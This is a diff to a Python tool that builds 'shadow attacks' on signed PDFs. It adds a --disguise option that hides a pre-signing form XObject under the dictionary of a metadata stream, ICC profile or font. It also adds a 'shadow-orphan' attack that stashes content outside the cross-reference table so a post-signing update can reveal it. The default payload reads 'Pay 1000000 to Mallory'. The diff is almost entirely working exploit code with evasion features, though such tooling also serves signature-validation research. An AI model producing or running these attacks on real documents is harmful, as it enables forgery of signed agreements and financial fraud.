@@ -512,11 +512,23 @@ def attack_content(pdf, a):
 
 def attack_shadow_xobject(pdf, a):
     """Prepares a shadow attack (before signing): an update adds a form XObject that shows
-    --text but that nothing uses yet; after signing, an update need only draw it."""
+    --text but that nothing uses yet; after signing, an update need only draw it. --disguise
+    gives the stream the dictionary of something else that is not shown: a metadata stream, an
+    ICC profile (/N), a font program (/Length1); readers use it as content all the same."""
     n = pdf.size()
-    return append_update(pdf, {n: stream(b'<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] '
-                                         b'/Resources << /Font << /F1 %d 0 R >> >> >>' % font_num(pdf),
-                                         text_content(a.text, y=600))})
+    dicts = {'none': b'<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> >>'
+                     % font_num(pdf),
+             'metadata': b'<< /Type /Metadata /Subtype /XML >>', 'icc': b'<< /N 3 >>', 'font': b'<< /Length1 40 >>'}
+    return append_update(pdf, {n: stream(dicts[a.disguise], text_content(a.text, y=600))})
+
+
+def attack_shadow_orphan(pdf, a):
+    """Prepares a shadow attack: an update carries a content stream showing --text that no
+    cross-reference entry reaches (between objects); a reader that rebuilds the cross-reference
+    finds it, and an update after signing need only point an entry at it."""
+    n = pdf.size()
+    orphan = b'%d 0 obj\n' % n + stream(b'<< >>', text_content(a.text, y=600)) + b'\nendobj\n'
+    return append_update(pdf, {pdf.root(): pdf.catalog()}, junk=orphan)
 
 
 def attack_shadow_layer(pdf, a):
@@ -789,7 +801,9 @@ ATTACKS = {
     'text-field': (attack_text_field, [('--name', dict(default='Amount')), ('--rect', dict(default='[72 500 372 560]'))]),
     'fill-text': (attack_fill_text, [('--name', dict(default='Amount')), ('--text', dict(default='1000 EUR')),
                                      ('--key',)]),
-    'shadow-xobject': (attack_shadow_xobject, [('--text', dict(default='Pay 1000000 to Mallory'))]),
+    'shadow-xobject': (attack_shadow_xobject, [('--text', dict(default='Pay 1000000 to Mallory')),
+                                               ('--disguise', dict(default='none', choices=['none', 'metadata', 'icc', 'font']))]),
+    'shadow-orphan': (attack_shadow_orphan, [('--text', dict(default='Pay 1000000 to Mallory'))]),
     'shadow-layer': (attack_shadow_layer, [('--text', dict(default='Pay 1000000 to Mallory'))]),
     'content': (attack_content, [('--text', dict(default='Pay 1000000 to Mallory'))]),
     'empty-field': (attack_empty_field, [('--name', dict(default='Approval')), ('--rect', dict(default='[60 600 360 660]')),
